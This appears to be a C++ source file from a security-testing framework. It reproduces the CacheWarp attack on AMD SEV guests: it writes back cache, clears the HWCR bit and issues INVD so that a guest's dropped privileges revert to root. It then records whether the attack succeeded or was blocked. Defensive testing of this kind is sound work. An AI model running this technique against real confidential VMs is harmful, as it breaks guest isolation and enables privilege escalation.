#include "attacks/cachewarp.h"

#include <fmt/format.h>

#include "attacks/fn_guest.h"
#include "attacks/guest_record.h"
#include "hw/cpu/msr.h"
#include "hw/svm/vmcb.h"

namespace cbit::attacks {
namespace {
constexpr uint64_t kCred = 0x209000;  // the guest's credentials (private)
constexpr size_t kLen = 16;
constexpr std::string_view kRoot = "uid=0", kUser = "uid=1000";

Bytes record(std::string_view s) { return guest_record(s, kLen); }

// CLFLUSH every line of a 4 KiB page through the host's mapping.
void flush_page(Hypervisor& hv, VirtAddr page) {
  for (uint64_t off = 0; off < kPageSize; off += kCacheLineSize) hv.clflush(page + off);
}
}  // namespace

SevAttackResult cachewarp(HostAttacker& attacker, SevMode mode) {
  SevAttackResult r;
  r.attack = "cachewarp";
  r.mode = mode;
  auto& hv = attacker.hypervisor();
  auto vm = hv.launch_vm(mode);
  int step = 0;
  Bytes before_invd(kLen), after_invd(kLen);
  FnGuest guest([&](GuestCpu& cpu) {
    switch (step++) {
      case 0:
        guest_accept_memory(cpu, {kCred});
        cpu.write_virt(VirtAddr(kCred), record(kRoot));  // boot: root
        break;
      case 1:
        cpu.write_virt(VirtAddr(kCred), record(kUser));  // drop privileges
        cpu.read_virt(VirtAddr(kCred), before_invd);
        break;
      default:
        cpu.read_virt(VirtAddr(kCred), after_invd);  // who am I?
    }
  });

  vm->run(guest);  // uid=0 in the cache
  hv.wbinvd();     // ... and in DRAM
  vm->run(guest);  // uid=1000, dirty in the cache; HLT exit

  // The exit wrote the VMCB (and the VMSA): keep those, drop everything else that is dirty.
  flush_page(hv, vm->vcpu().vmcb());
  if (const auto vmsa = vm->vcpu().vmsa()) flush_page(hv, *vmsa);
  const uint64_t hwcr = hv.rdmsr(hw::msr::kHwcr);
  hv.wrmsr(hw::msr::kHwcr, hwcr & ~hw::hwcr::kInvdWbinvd);
  const bool bit_cleared = !(hv.rdmsr(hw::msr::kHwcr) & hw::hwcr::kInvdWbinvd);
  hv.invd();
  hv.wrmsr(hw::msr::kHwcr, hwcr);
  const auto exit = vm->run(guest);

  const bool dropped = step >= 3 && printable(before_invd) == kUser;
  const bool warped = printable(after_invd) == kRoot;
  r.evidence = {{"hwcr_before", fmt::format("{:#x}", hwcr)},
                {"invdwbinvd_cleared", bit_cleared},
                {"guest_before_invd", printable(before_invd)},
                {"guest_after_invd", printable(after_invd)},
                {"exit_after_invd", hw::svm::exit_code_name(exit.code)}};
  r.verdict = !dropped ? Verdict::Error : warped ? Verdict::Succeeded : Verdict::Blocked;
  r.got = warped        ? "guest back to uid=0"
          : bit_cleared ? "guest kept uid=1000"
                        : "HWCR[4] pinned: " + printable(after_invd);
  r.detail = fmt::format(
      "HWCR[INVDWBINVD] {} after WRMSR; INVD at the HLT exit; the guest then reads \"{}\" "
      "(it wrote \"{}\")",
      bit_cleared ? "clear" : "still set (microcode fix)", printable(after_invd),
      printable(before_invd));
  if (!dropped)
    r.detail = fmt::format("the guest did not run its steps (exit {})",
                           hw::svm::exit_code_name(exit.code));
  return r;
}

}  // namespace cbit::attacks
